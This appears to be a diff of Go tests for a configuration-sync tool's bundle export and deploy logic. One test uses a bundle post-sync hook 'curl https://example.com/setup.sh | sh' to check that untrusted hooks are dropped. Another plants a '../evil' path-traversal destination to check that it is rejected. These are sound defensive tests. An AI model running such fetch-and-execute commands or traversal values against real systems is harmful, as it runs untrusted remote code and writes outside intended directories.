@@ -1,13 +1,20 @@
 package deploy
 
 import (
+	"context"
+	"errors"
+	"fmt"
 	"os"
 	"path/filepath"
+	"slices"
 	"strings"
 	"testing"
 	"time"
 
+	"github.com/dotbrains/configsync/internal/backup"
 	"github.com/dotbrains/configsync/internal/config"
+	"github.com/dotbrains/configsync/internal/fsys"
+	"github.com/dotbrains/configsync/internal/symlink"
 )
 
 func TestNewManager(t *testing.T) {
@@ -113,6 +120,40 @@ func TestExportBundle(t *testing.T) {
 	}
 }
 
+func TestExportBundleCanceled(t *testing.T) {
+	tempDir := t.TempDir()
+	storeDir := filepath.Join(tempDir, "store")
+	if err := os.MkdirAll(storeDir, 0755); err != nil {
+		t.Fatalf("Failed to create store dir: %v", err)
+	}
+	if err := os.WriteFile(filepath.Join(storeDir, "test1.conf"), []byte("test content 1"), 0644); err != nil {
+		t.Fatalf("Failed to create test file: %v", err)
+	}
+
+	configManager := config.NewManager(tempDir)
+	if err := configManager.Initialize(); err != nil {
+		t.Fatalf("Failed to initialize config manager: %v", err)
+	}
+	app := config.NewAppConfig("testapp1", "Test App 1")
+	app.AddPath("/test/source1.conf", "test1.conf", config.PathTypeFile, false)
+	if err := configManager.AddApp(app); err != nil {
+		t.Fatalf("Failed to add app: %v", err)
+	}
+
+	ctx, cancel := context.WithCancel(context.Background())
+	cancel()
+	manager := NewManager(tempDir, storeDir, filepath.Join(tempDir, "backup"), false)
+	manager.SetContext(ctx)
+
+	bundlePath := filepath.Join(tempDir, "test-bundle.tar.gz")
+	if err := manager.ExportBundle(bundlePath, nil, configManager); !errors.Is(err, context.Canceled) {
+		t.Fatalf("Expected context.Canceled, got %v", err)
+	}
+	if manager.pathExists(bundlePath) {
+		t.Error("Expected no bundle to be left behind after cancellation")
+	}
+}
+
 func TestExportBundleSpecificApps(t *testing.T) {
 	tempDir := t.TempDir()
 	homeDir := tempDir
@@ -195,8 +236,8 @@ func TestExportBundleNonExistentApp(t *testing.T) {
 		t.Error("Expected error for non-existent app")
 	}
 
-	if !strings.Contains(err.Error(), "application not found") {
-		t.Errorf("Expected 'application not found' error, got: %v", err)
+	if !strings.Contains(err.Error(), "is not configured") {
+		t.Errorf("Expected 'is not configured' error, got: %v", err)
 	}
 }
 
@@ -433,6 +474,186 @@ func TestDeployBundle(t *testing.T) {
 	}
 }
 
+func TestDeployResetsSyncState(t *testing.T) {
+	tempDir := t.TempDir()
+
+	// The exporting machine has synced the app
+	sourceHome := filepath.Join(tempDir, "source")
+	sourceConfig := config.NewManager(sourceHome)
+	if err := sourceConfig.Initialize(); err != nil {
+		t.Fatalf("Failed to initialize source config: %v", err)
+	}
+	app := config.NewAppConfig("testapp", "Test App")
+	app.AddPath("~/.testrc", ".testrc", config.PathTypeFile, false)
+	app.Paths[0].MarkSynced()
+	app.Paths[0].BackedUp = true
+	if err := sourceConfig.AddApp(app); err != nil {
+		t.Fatalf("Failed to add app: %v", err)
+	}
+	sourceStore := filepath.Join(tempDir, "source-store")
+	if err := os.MkdirAll(sourceStore, 0755); err != nil {
+		t.Fatalf("Failed to create store: %v", err)
+	}
+	if err := os.WriteFile(filepath.Join(sourceStore, ".testrc"), []byte("bundle"), 0644); err != nil {
+		t.Fatalf("Failed to write store file: %v", err)
+	}
+	bundlePath := filepath.Join(tempDir, "bundle.tar.gz")
+	if err := NewManager(sourceHome, sourceStore, filepath.Join(tempDir, "source-backup"), false).ExportBundle(bundlePath, nil, sourceConfig); err != nil {
+		t.Fatalf("ExportBundle failed: %v", err)
+	}
+
+	// The deploying machine already has its own copy of the file
+	targetHome := filepath.Join(tempDir, "target")
+	targetConfig := config.NewManager(targetHome)
+	if err := targetConfig.Initialize(); err != nil {
+		t.Fatalf("Failed to initialize target config: %v", err)
+	}
+	localFile := filepath.Join(targetHome, ".testrc")
+	if err := os.WriteFile(localFile, []byte("local"), 0644); err != nil {
+		t.Fatalf("Failed to write local file: %v", err)
+	}
+	targetStore := filepath.Join(tempDir, "target-store")
+	deployer := NewManager(targetHome, targetStore, filepath.Join(tempDir, "target-backup"), false)
+	importDir := filepath.Join(tempDir, "import")
+	bundle, err := deployer.ImportBundle(bundlePath, importDir)
+	if err != nil {
+		t.Fatalf("ImportBundle failed: %v", err)
+	}
+	if err := deployer.DeployBundle(bundle, importDir, targetConfig, true); err != nil {
+		t.Fatalf("DeployBundle failed: %v", err)
+	}
+
+	deployed, err := targetConfig.GetApp("testapp")
+	if err != nil {
+		t.Fatalf("Expected the app to be configured: %v", err)
+	}
+	path := deployed.Paths[0]
+	if path.Synced || !path.SyncedAt.IsZero() || path.BackedUp {
+		t.Errorf("Expected the exporting machine's sync state to be dropped, got %+v", path)
+	}
+	if symlink.IsReplaced(localFile, filepath.Join(targetStore, ".testrc"), &path) {
+		t.Error("Expected the existing local file not to be reported as a replaced symlink")
+	}
+}
+
+func TestDeployReviewsPostSync(t *testing.T) {
+	tempDir := t.TempDir()
+
+	sourceHome := filepath.Join(tempDir, "source")
+	sourceConfig := config.NewManager(sourceHome)
+	if err := sourceConfig.Initialize(); err != nil {
+		t.Fatalf("Failed to initialize source config: %v", err)
+	}
+	app := config.NewAppConfig("testapp", "Test App")
+	app.AddPath("~/.testrc", ".testrc", config.PathTypeFile, false)
+	app.PostSync = []string{"curl https://example.com/setup.sh | sh"}
+	if err := sourceConfig.AddApp(app); err != nil {
+		t.Fatalf("Failed to add app: %v", err)
+	}
+	sourceStore := filepath.Join(tempDir, "source-store")
+	if err := os.MkdirAll(sourceStore, 0755); err != nil {
+		t.Fatalf("Failed to create store: %v", err)
+	}
+	if err := os.WriteFile(filepath.Join(sourceStore, ".testrc"), []byte("bundle"), 0644); err != nil {
+		t.Fatalf("Failed to write store file: %v", err)
+	}
+	bundlePath := filepath.Join(tempDir, "bundle.tar.gz")
+	if err := NewManager(sourceHome, sourceStore, filepath.Join(tempDir, "source-backup"), false).ExportBundle(bundlePath, nil, sourceConfig); err != nil {
+		t.Fatalf("ExportBundle failed: %v", err)
+	}
+
+	for _, trust := range []bool{false, true} {
+		targetHome := filepath.Join(tempDir, fmt.Sprintf("target-%t", trust))
+		targetConfig := config.NewManager(targetHome)
+		if err := targetConfig.Initialize(); err != nil {
+			t.Fatalf("Failed to initialize target config: %v", err)
+		}
+		deployer := NewManager(targetHome, filepath.Join(targetHome, "store"), filepath.Join(targetHome, "backup"), false)
+		deployer.SetTrustHooks(trust)
+		importDir := filepath.Join(targetHome, "import")
+		bundle, err := deployer.ImportBundle(bundlePath, importDir)
+		if err != nil {
+			t.Fatalf("ImportBundle failed: %v", err)
+		}
+		if err := deployer.DeployBundle(bundle, importDir, targetConfig, false); err != nil {
+			t.Fatalf("DeployBundle failed: %v", err)
+		}
+
+		deployed, err := targetConfig.GetApp("testapp")
+		if err != nil {
+			t.Fatalf("Expected the app to be configured: %v", err)
+		}
+		if trust && !slices.Equal(deployed.PostSync, app.PostSync) {
+			t.Errorf("Expected trusted post-sync commands to be adopted, got %v", deployed.PostSync)
+		}
+		if !trust && len(deployed.PostSync) != 0 {
+			t.Errorf("Expected the bundle's post-sync commands to be left out, got %v", deployed.PostSync)
+		}
+	}
+}
+
+func TestDeployRejectsInvalidApps(t *testing.T) {
+	tempDir := t.TempDir()
+
+	sourceHome := filepath.Join(tempDir, "source")
+	sourceConfig := config.NewManager(sourceHome)
+	if err := sourceConfig.Initialize(); err != nil {
+		t.Fatalf("Failed to initialize source config: %v", err)
+	}
+	app := config.NewAppConfig("testapp", "Test App")
+	app.AddPath("~/.testrc", ".testrc", config.PathTypeFile, false)
+	if err := sourceConfig.AddApp(app); err != nil {
+		t.Fatalf("Failed to add app: %v", err)
+	}
+	sourceStore := filepath.Join(tempDir, "source-store")
+	if err := os.MkdirAll(sourceStore, 0755); err != nil {
+		t.Fatalf("Failed to create store: %v", err)
+	}
+	if err := os.WriteFile(filepath.Join(sourceStore, ".testrc"), []byte("bundle"), 0644); err != nil {
+		t.Fatalf("Failed to write store file: %v", err)
+	}
+	bundlePath := filepath.Join(tempDir, "bundle.tar.gz")
+	if err := NewManager(sourceHome, sourceStore, filepath.Join(tempDir, "source-backup"), false).ExportBundle(bundlePath, nil, sourceConfig); err != nil {
+		t.Fatalf("ExportBundle failed: %v", err)
+	}
+
+	targetHome := filepath.Join(tempDir, "target")
+	targetConfig := config.NewManager(targetHome)
+	if err := targetConfig.Initialize(); err != nil {
+		t.Fatalf("Failed to initialize target config: %v", err)
+	}
+	targetStore := filepath.Join(targetHome, "store")
+	deployer := NewManager(targetHome, targetStore, filepath.Join(targetHome, "backup"), false)
+	importDir := filepath.Join(targetHome, "import")
+	bundle, err := deployer.ImportBundle(bundlePath, importDir)
+	if err != nil {
+		t.Fatalf("ImportBundle failed: %v", err)
+	}
+
+	// A bundle edited to write outside the store
+	bundle.Apps["testapp"].Paths[0].Destination = "../evil"
+	evilDir := filepath.Join(importDir, "files", "evil")
+	if err := os.MkdirAll(evilDir, 0755); err != nil {
+		t.Fatalf("Failed to create bundle directory: %v", err)
+	}
+	if err := os.WriteFile(filepath.Join(evilDir, "evil"), []byte("evil"), 0644); err != nil {
+		t.Fatalf("Failed to write bundle file: %v", err)
+	}
+
+	if err := deployer.DeployBundle(bundle, importDir, targetConfig, true); err == nil || !strings.Contains(err.Error(), "must be inside the store") {
+		t.Fatalf("Expected the invalid app to be rejected, got %v", err)
+	}
+	if _, err := os.Lstat(filepath.Join(targetHome, "evil")); !os.IsNotExist(err) {
+		t.Errorf("Expected nothing to be written outside the store, got %v", err)
+	}
+	if _, err := config.NewManager(targetHome).Load(); err != nil {
+		t.Errorf("Expected the configuration to still load, got %v", err)
+	}
+	if _, err := targetConfig.GetApp("testapp"); err == nil {
+		t.Error("Expected the invalid app not to be configured")
+	}
+}
+
 func TestDeployBundleWithConflicts(t *testing.T) {
 	tempDir := t.TempDir()
 	homeDir := tempDir
@@ -458,33 +679,42 @@ func TestDeployBundleWithConflicts(t *testing.T) {
 		t.Fatalf("Failed to initialize config manager: %v", err)
 	}
 
-	// Create existing app configuration
+	// Create existing app configuration, with store content the bundle does not have
 	existingApp := config.NewAppConfig("testapp1", "Test App 1")
-	existingApp.LastSynced = time.Now() // Recent sync time
+	existingApp.AddPath("~/.testrc", ".testrc", config.PathTypeFile, false)
 	err = configManager.AddApp(existingApp)
 	if err != nil {
 		t.Fatalf("Failed to add existing app: %v", err)
 	}
+	if err := os.WriteFile(filepath.Join(storeDir, ".testrc"), []byte("local = true\n"), 0644); err != nil {
+		t.Fatalf("Failed to write store file: %v", err)
+	}
 
-	// Create bundle with same app but older timestamp
+	// Create bundle with same app but different content
+	bundleDir := tempDir
+	bundleFile := filepath.Join(bundleDir, "files", "testapp1", ".testrc")
+	if err := os.MkdirAll(filepath.Dir(bundleFile), 0755); err != nil {
+		t.Fatalf("Failed to create bundle files: %v", err)
+	}
+	if err := os.WriteFile(bundleFile, []byte("bundle = true\n"), 0644); err != nil {
+		t.Fatalf("Failed to write bundle file: %v", err)
+	}
 	bundle := &config.DeploymentBundle{
 		Version:   "1.0",
-		CreatedAt: time.Now().Add(-24 * time.Hour), // Bundle is 1 day old
+		CreatedAt: time.Now(),
 		CreatedBy: "test",
 		Apps: map[string]*config.AppConfig{
 			"testapp1": {
 				Name:        "testapp1",
 				DisplayName: "Test App 1",
 				Enabled:     true,
-				Paths:       []config.Path{},
-				LastSynced:  time.Now().Add(-24 * time.Hour),
+				Paths:       []config.Path{{Source: "~/.testrc", Destination: ".testrc", Type: config.PathTypeFile}},
 			},
 		},
 		Metadata: map[string]string{},
 	}
 
 	// Test deploy without force (should fail due to conflicts)
-	bundleDir := tempDir
 	err = manager.DeployBundle(bundle, bundleDir, configManager, false)
 	if err == nil {
 		t.Error("Expected deployment to fail due to conflicts")
@@ -502,76 +732,104 @@ func TestDeployBundleWithConflicts(t *testing.T) {
 }
 
 func TestDetectConflicts(t *testing.T) {
-	tempDir := t.TempDir()
-	homeDir := tempDir
-	storeDir := filepath.Join(tempDir, "store")
-	backupDir := filepath.Join(tempDir, "backup")
-
-	manager := NewManager(homeDir, storeDir, backupDir, false)
-
-	// Create current config with newer timestamp
-	currentCfg := &config.Config{
-		Apps: map[string]*config.AppConfig{
-			"testapp1": {
-				Name:        "testapp1",
-				DisplayName: "Test App 1",
-				Enabled:     true,
-				LastSynced:  time.Now(),
-				Paths:       []config.Path{{Source: "path1"}, {Source: "path2"}},
-			},
-		},
+	manager, configManager, bundle, importDir, bundleFile := setupImportedBundle(t)
+	storeFile := filepath.Join(manager.storeDir, "test.conf")
+	currentCfg, err := configManager.Load()
+	if err != nil {
+		t.Fatalf("Failed to load config: %v", err)
 	}
 
-	// Create bundle with older timestamp and different path count
-	bundle := &config.DeploymentBundle{
-		Version:   "1.0",
-		CreatedAt: time.Now().Add(-24 * time.Hour), // Bundle is 1 day old
-		Apps: map[string]*config.AppConfig{
-			"testapp1": {
-				Name:        "testapp1",
-				DisplayName: "Test App 1",
-				Enabled:     true,
-				LastSynced:  time.Now().Add(-24 * time.Hour),
-				Paths:       []config.Path{{Source: "path1"}}, // Different path count
-			},
-		},
+	detect := func() []Conflict {
+		t.Helper()
+		conflicts, err := manager.detectConflicts(bundle, importDir, currentCfg, nil)
+		if err != nil {
+			t.Fatalf("detectConflicts failed: %v", err)
+		}
+		return conflicts
 	}
 
-	conflicts := manager.detectConflicts(bundle, currentCfg)
+	// Nothing local to conflict with
+	if conflicts := detect(); len(conflicts) != 0 {
+		t.Errorf("Expected no conflicts without local files, got %+v", conflicts)
+	}
 
-	if len(conflicts) == 0 {
-		t.Error("Expected conflicts to be detected")
+	// A file at the source that differs from the bundle's would be replaced by sync
+	sourceFile := filepath.Join(manager.homeDir, "source.conf")
+	bundle.Apps["testapp"].Paths[0].Source = "~/source.conf"
+	if err := os.WriteFile(sourceFile, []byte("local content"), 0644); err != nil {
+		t.Fatalf("Failed to write source file: %v", err)
+	}
+	conflicts := detect()
+	if len(conflicts) != 1 || conflicts[0].Path != "test.conf" || conflicts[0].Local.Path != sourceFile ||
+		conflicts[0].Local.Size != int64(len("local content")) || conflicts[0].Bundle.Size != int64(len("bundle content")) {
+		t.Fatalf("Expected the source file to conflict, got %+v", conflicts)
+	}
+	if !strings.Contains(conflicts[0].Message, "test.conf differs (local: ") {
+		t.Errorf("Unexpected conflict message: %s", conflicts[0].Message)
+	}
+	if err := os.WriteFile(sourceFile, []byte("bundle content"), 0644); err != nil {
+		t.Fatalf("Failed to write source file: %v", err)
+	}
+	if conflicts := detect(); len(conflicts) != 0 {
+		t.Errorf("Expected an identical source file not to conflict, got %+v", conflicts)
 	}
 
-	// Should detect both timestamp and path count conflicts
-	if len(conflicts) < 2 {
-		t.Errorf("Expected at least 2 conflicts, got %d", len(conflicts))
+	// Store copies are compared instead once they exist, whatever the timestamps say
+	if err := os.MkdirAll(manager.storeDir, 0755); err != nil {
+		t.Fatalf("Failed to create store: %v", err)
+	}
+	if err := os.WriteFile(storeFile, []byte("bundle content"), 0644); err != nil {
+		t.Fatalf("Failed to write store file: %v", err)
+	}
+	bundle.CreatedAt = time.Now().Add(-24 * time.Hour)
+	if conflicts := detect(); len(conflicts) != 0 {
+		t.Errorf("Expected identical content not to conflict, got %+v", conflicts)
+	}
+	if err := os.WriteFile(storeFile, []byte("store content"), 0644); err != nil {
+		t.Fatalf("Failed to write store file: %v", err)
+	}
+	if conflicts := detect(); len(conflicts) != 1 || conflicts[0].Local.Path != storeFile {
+		t.Errorf("Expected the changed store file to conflict, got %+v", conflicts)
 	}
 
-	// Check conflict messages
-	foundTimestampConflict := false
-	foundPathCountConflict := false
+	// Once deployed, the store follows the bundle until either side changes
+	if err := os.Remove(storeFile); err != nil {
+		t.Fatalf("Failed to remove store file: %v", err)
+	}
+	if result := deployOnce(t, manager, configManager, bundle, importDir); len(result.Deployed) != 1 {
+		t.Fatalf("Expected the app to be deployed, got %+v", result)
+	}
+	if err := os.WriteFile(bundleFile, []byte("newer bundle content"), 0644); err != nil {
+		t.Fatalf("Failed to write bundle file: %v", err)
+	}
+	if conflicts := detect(); len(conflicts) != 0 {
+		t.Errorf("Expected a store copy unchanged since the deploy not to conflict, got %+v", conflicts)
+	}
+}
 
-	for _, conflict := range conflicts {
-		if conflict.AppName != "testapp1" {
-			t.Errorf("Unexpected app name in conflict: %s", conflict.AppName)
-		}
+func TestDetectConflictsAppVersion(t *testing.T) {
+	tempDir := t.TempDir()
+	manager := NewManager(tempDir, filepath.Join(tempDir, "store"), filepath.Join(tempDir, "backup"), false)
 
-		if strings.Contains(conflict.Message, "local configuration is newer") {
-			foundTimestampConflict = true
-		}
+	localApp := config.NewAppConfig("vscode", "Visual Studio Code")
+	localApp.Metadata[config.MetadataAppVersion] = "1.80.2"
+	bundleApp := config.NewAppConfig("vscode", "Visual Studio Code")
+	bundleApp.Metadata[config.MetadataAppVersion] = "1.92.0"
+	currentCfg := &config.Config{Apps: map[string]*config.AppConfig{"vscode": localApp}}
+	bundle := &config.DeploymentBundle{CreatedAt: time.Now(), Apps: map[string]*config.AppConfig{"vscode": bundleApp}}
 
-		if strings.Contains(conflict.Message, "path count differs") {
-			foundPathCountConflict = true
-		}
+	conflicts, err := manager.detectConflicts(bundle, t.TempDir(), currentCfg, nil)
+	if err != nil {
+		t.Fatalf("detectConflicts failed: %v", err)
 	}
-
-	if !foundTimestampConflict {
-		t.Error("Expected timestamp conflict")
+	if len(conflicts) != 1 || conflicts[0].Message != "bundle built against Visual Studio Code 1.92.0, local has 1.80.2" {
+		t.Errorf("Expected a version conflict, got %+v", conflicts)
 	}
 
-	if !foundPathCountConflict {
-		t.Error("Expected path count conflict")
+	// Settings from an older version are read by the newer local version
+	localApp.Metadata[config.MetadataAppVersion] = "1.95.0"
+	if conflicts, _ := manager.detectConflicts(bundle, t.TempDir(), currentCfg, nil); len(conflicts) != 0 {
+		t.Errorf("Expected no conflicts for a bundle from an older version, got %+v", conflicts)
 	}
 }
 
@@ -782,6 +1040,52 @@ func TestCopyDir(t *testing.T) {
 	}
 }
 
+func TestCopyPathExcluding(t *testing.T) {
+	tempDir := t.TempDir()
+	manager := NewManager(tempDir, filepath.Join(tempDir, "store"), filepath.Join(tempDir, "backup"), false)
+
+	srcDir := filepath.Join(tempDir, "source")
+	for _, rel := range []string{"config", "cache/entry", "logs/debug.log", "GPUCache/data_0", "state.tmp", ".configsyncignore"} {
+		file := filepath.Join(srcDir, rel)
+		if err := os.MkdirAll(filepath.Dir(file), 0755); err != nil {
+			t.Fatalf("Failed to create directory: %v", err)
+		}
+		if err := os.WriteFile(file, []byte(rel), 0644); err != nil {
+			t.Fatalf("Failed to create file: %v", err)
+		}
+	}
+
+	if err := os.WriteFile(filepath.Join(srcDir, ".configsyncignore"), []byte("*.tmp\n"), 0644); err != nil {
+		t.Fatalf("Failed to write ignore file: %v", err)
+	}
+
+	app := &config.AppConfig{Name: "testapp", Ignore: []string{"GPUCache/"}}
+	path := &config.Path{Exclude: []string{"cache", "*.log"}}
+	dstDir := filepath.Join(tempDir, "destination")
+	if err := manager.copyPathExcluding(srcDir, dstDir, app, path); err != nil {
+		t.Fatalf("copyPathExcluding failed: %v", err)
+	}
+
+	if !manager.pathExists(filepath.Join(dstDir, "config")) {
+		t.Error("Expected non-excluded file to be copied")
+	}
+	if manager.pathExists(filepath.Join(dstDir, "cache")) {
+		t.Error("Expected excluded directory to be skipped")
+	}
+	if manager.pathExists(filepath.Join(dstDir, "logs", "debug.log")) {
+		t.Error("Expected excluded file to be skipped")
+	}
+	if manager.pathExists(filepath.Join(dstDir, "GPUCache")) {
+		t.Error("Expected directory ignored by the app to be skipped")
+	}
+	if manager.pathExists(filepath.Join(dstDir, "state.tmp")) {
+		t.Error("Expected file ignored by .configsyncignore to be skipped")
+	}
+	if !manager.pathExists(filepath.Join(dstDir, ".configsyncignore")) {
+		t.Error("Expected the ignore file itself to be kept")
+	}
+}
+
 func TestValidateBundle(t *testing.T) {
 	tempDir := t.TempDir()
 	manager := NewManager(tempDir, filepath.Join(tempDir, "store"), filepath.Join(tempDir, "backup"), false)
@@ -873,3 +1177,110 @@ func TestValidateBundle(t *testing.T) {
 		t.Errorf("Expected 'required file missing' error, got: %v", err)
 	}
 }
+
+func TestDeployBacksUpOverwrittenStoreCopies(t *testing.T) {
+	manager, configManager, bundle, importDir, bundleFile := setupImportedBundle(t)
+
+	if result := deployOnce(t, manager, configManager, bundle, importDir); len(result.Deployed) != 1 {
+		t.Fatalf("Expected the app to be deployed, got %+v", result)
+	}
+	if created := manager.backups.Created(); len(created) != 0 {
+		t.Fatalf("Expected no backups without store copies, got %+v", created)
+	}
+
+	if err := os.WriteFile(bundleFile, []byte("new bundle content"), 0644); err != nil {
+		t.Fatalf("Failed to modify bundle file: %v", err)
+	}
+	if result := deployOnce(t, manager, configManager, bundle, importDir); len(result.Deployed) != 1 {
+		t.Fatalf("Expected the changed app to be deployed, got %+v", result)
+	}
+	created := manager.backups.Created()
+	if len(created) != 1 || created[0].AppName != "testapp" || created[0].Reason != backup.ReasonPreDeploy {
+		t.Fatalf("Expected the overwritten store copy to be backed up, got %+v", created)
+	}
+	if data, err := os.ReadFile(created[0].BackupPath); err != nil || string(data) != "bundle content" {
+		t.Errorf("Expected the backup to hold the replaced content, got %q, %v", data, err)
+	}
+
+	manager.SetAutoBackup(false)
+	if err := os.WriteFile(bundleFile, []byte("newest bundle content"), 0644); err != nil {
+		t.Fatalf("Failed to modify bundle file: %v", err)
+	}
+	deployOnce(t, manager, configManager, bundle, importDir)
+	if created := manager.backups.Created(); len(created) != 1 {
+		t.Errorf("Expected no backups with auto-backup off, got %+v", created)
+	}
+}
+
+func TestDeployInMemory(t *testing.T) {
+	files := fsys.NewMem()
+	root := filepath.Join(string(filepath.Separator), "Users")
+
+	// Export from one machine's store
+	sourceHome := filepath.Join(root, "source")
+	sourceConfig := config.NewManager(sourceHome, config.WithFS(files))
+	if err := sourceConfig.Initialize(); err != nil {
+		t.Fatalf("Failed to initialize source config: %v", err)
+	}
+	app := config.NewAppConfig("testapp", "Test App")
+	app.AddPath("~/.testrc", ".testrc", config.PathTypeFile, true)
+	if err := sourceConfig.AddApp(app); err != nil {
+		t.Fatalf("Failed to add app: %v", err)
+	}
+	sourceStore := filepath.Join(sourceHome, config.DefaultConfigDir, config.DefaultStoreDir)
+	if err := files.WriteFile(filepath.Join(sourceStore, ".testrc"), []byte("bundle content"), 0644); err != nil {
+		t.Fatalf("Failed to write store file: %v", err)
+	}
+
+	exporter := NewManager(sourceHome, sourceStore, filepath.Join(sourceHome, "backup"), false)
+	exporter.SetFS(files)
+	bundlePath := filepath.Join(root, "bundle.tar.gz")
+	if err := exporter.ExportBundle(bundlePath, nil, sourceConfig); err != nil {
+		t.Fatalf("ExportBundle failed: %v", err)
+	}
+
+	// Import and deploy it on another
+	targetHome := filepath.Join(root, "target")
+	targetConfig := config.NewManager(targetHome, config.WithFS(files))
+	if err := targetConfig.Initialize(); err != nil {
+		t.Fatalf("Failed to initialize target config: %v", err)
+	}
+	targetStore := filepath.Join(targetHome, config.DefaultConfigDir, config.DefaultStoreDir)
+	deployer := NewManager(targetHome, targetStore, filepath.Join(targetHome, "backup"), false)
+	deployer.SetFS(files)
+	importDir := filepath.Join(targetHome, config.DefaultConfigDir, "import")
+	bundle, err := deployer.ImportBundle(bundlePath, importDir)
+	if err != nil {
+		t.Fatalf("ImportBundle failed: %v", err)
+	}
+	if err := deployer.DeployBundle(bundle, importDir, targetConfig, false); err != nil {
+		t.Fatalf("DeployBundle failed: %v", err)
+	}
+
+	if data, err := files.ReadFile(filepath.Join(targetStore, ".testrc")); err != nil || string(data) != "bundle content" {
+		t.Errorf("Expected the bundle file in the in-memory store, got %q, %v", data, err)
+	}
+	if _, err := targetConfig.GetApp("testapp"); err != nil {
+		t.Errorf("Expected the deployed app to be configured: %v", err)
+	}
+	state, err := loadDeployState(files, importDir)
+	if err != nil || state.DeployedCount(bundle) != 1 {
+		t.Errorf("Expected the deploy state to be saved in memory, got %+v, %v", state, err)
+	}
+
+	// Zip bundles are read through the file system too
+	exporter.SetFormat(FormatZip)
+	zipPath := filepath.Join(root, "bundle.zip")
+	if err := exporter.ExportBundle(zipPath, nil, sourceConfig); err != nil {
+		t.Fatalf("ExportBundle failed for a zip bundle: %v", err)
+	}
+	if bundle, err := deployer.ImportBundle(zipPath, importDir); err != nil || bundle.Apps["testapp"] == nil {
+		t.Errorf("Expected the zip bundle to be imported, got %+v, %v", bundle, err)
+	}
+
+	for _, path := range []string{bundlePath, zipPath, sourceHome, targetHome} {
+		if _, err := os.Lstat(path); !os.IsNotExist(err) {
+			t.Errorf("Expected nothing to be written to disk at %s", path)
+		}
+	}
+}